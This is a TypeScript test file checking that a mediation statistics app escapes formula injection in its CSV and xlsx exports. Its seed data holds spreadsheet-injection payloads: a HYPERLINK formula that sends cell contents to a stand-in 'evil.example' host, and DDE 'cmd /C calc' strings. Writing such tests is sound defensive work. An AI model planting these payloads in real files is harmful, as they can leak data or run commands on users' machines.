import ExcelJS from 'exceljs';
import { insertDocs } from '../../devcloud/db/writer';
import { areaDocsOf } from '../../server/areas/seed';
import { monthStart } from '../../server/stats/months';
import { dataOf, useAppCloud } from '../helpers/app-cloud';
import { fetchBytes } from '../helpers/docx';

const app = useAppCloud();

interface File {
  url: string;
  fileName: string;
  fileType: string;
}

const from = monthStart(2025, 3);
const to = monthStart(2025, 4);
/** Names of places as an admin could type them: each starts with what a spreadsheet reads as a formula. */
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const area = '=HYPERLINK("http://x.example")';
let admin: { openid: string };

/** A town named `area` whose villages are named by the formulas (and one by `area` itself). */
const tree = areaDocsOf(
  [
    { id: 'x-county', level: 'county', name: '清溪县' },
    { id: 'x-town', parentId: 'x-county', level: 'town', name: area },
    ...[...formulas, area].map((name, v) => ({
      id: `x-village-${v}`,
      parentId: 'x-town',
      level: 'village' as const,
      name,
    })),
  ],
  from,
);

beforeAll(async () => {
  insertDocs(
    app.devcloud.database.engine,
    'areas',
    tree.map((a) => ({ ...a }) as Record<string, unknown>),
  );
  const docs = [...formulas, area].flatMap((_name, v) =>
    [0, 1].map((i) => ({
      _id: `f${v}-${i}`,
      disputeType: '邻里',
      area: tree.find((a) => a._id === `x-village-${v}`)!.ref,
      status: 'closed',
      outcome: 'resolved',
      mediatorId: 'm1',
      createdAt: from + (v * 2 + i + 1) * 3_600_000,
    })),
  );
  insertDocs(app.devcloud.database.engine, 'consultations', docs);
  // Records loaded in bulk bypass the functions: the rebuild makes their rollups.
  const { rebuildRollups } = await import('../../server/stats/rebuild');
  await rebuildRollups(from, from + 86_400_000);
  admin = await app.createUser('admin');
});

/** RFC 4180: fields split on commas and CRLF outside quotes, `""` inside quotes is one quote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let field = '';
  let quoted = false;
  const endField = () => {
    rows.at(-1)?.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i];
    const next = text[i + 1];
    if (quoted && ch === '"' && next === '"') {
      field += '"';
      i += 1;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      endField();
    } else if (!quoted && ch === '\r' && next === '\n') {
      endField();
      rows.push([]);
      i += 1;
    } else {
      field += ch;
    }
  }
  return rows;
}

describe('the statistics export', () => {
  it('CSV: every text cell a spreadsheet would read as a formula starts with a single quote', async () => {
    const file = dataOf<File>(await app.call(admin.openid, 'stats', 'exportCsv', { from, to }));
    expect(file).toMatchObject({ fileName: '统计-2025-03.csv', fileType: 'csv' });
    const cells = parseCsv((await fetchBytes(file.url)).toString('utf8').slice(1)).flat();
    for (const village of [...formulas, area]) expect(cells).toContain(`'${village}`);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('CSV: the area, in the title row and the report, is escaped too', async () => {
    const file = dataOf<File>(
      await app.call(admin.openid, 'stats', 'exportCsv', { from, to, areaId: 'x-town' }),
    );
    const rows = parseCsv((await fetchBytes(file.url)).toString('utf8').slice(1));
    expect(rows[0]).toEqual(['人民调解统计', '2025-03', `'${area}`]);
    expect(rows.find((r) => r[0] === `'${area}`)?.[1]).toBe('2');
    expect(rows.find((r) => r[0] === '月报')?.[1]).toContain(area);
    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('xlsx: opens in exceljs with the figures as numbers and every text as text, never a formula', async () => {
    const file = dataOf<File>(await app.call(admin.openid, 'stats', 'exportXlsx', { from, to }));
    expect(file).toMatchObject({ fileName: '统计-2025-03.xlsx', fileType: 'xlsx' });
    const book = new ExcelJS.Workbook();
    const bytes = await fetchBytes(file.url);
    await book.xlsx.load(bytes as unknown as Parameters<typeof book.xlsx.load>[0]);
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe('调解统计');
    const rows: ExcelJS.CellValue[][] = [];
    sheet.eachRow({ includeEmpty: true }, (row, n) => {
      rows[n - 1] = (row.values as ExcelJS.CellValue[]).slice(1);
    });
    expect(rows[0]).toEqual(['人民调解统计', '2025-03', '全县']);
    const total = (formulas.length + 1) * 2;
    expect(rows[3]?.[0]).toBe(total);
    expect(rows[3]?.slice(0, 4).every((n) => typeof n === 'number')).toBe(true);
    for (const village of [...formulas, area]) {
      // XML reads a bare carriage return back as a line feed; the text is otherwise as typed.
      const row = rows.find((r) => r?.[0] === village.replace(/\r/g, '\n'));
      expect([village, row?.[1]]).toEqual([village, 2]);
    }
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type === ExcelJS.ValueType.Number || cell.type === ExcelJS.ValueType.String).toBe(true);
        expect(cell.formula).toBeUndefined();
      }),
    );
    const { items } = dataOf<{ items: { action: string; target: string }[] }>(
      await app.call(admin.openid, 'audit', 'list', { domain: 'stats' }),
    );
    expect(items[0]).toMatchObject({
      action: 'stats.export',
      target: '统计报表（2025-03）',
    });
    expect(JSON.stringify(file)).not.toContain('cloud://');
  });
});
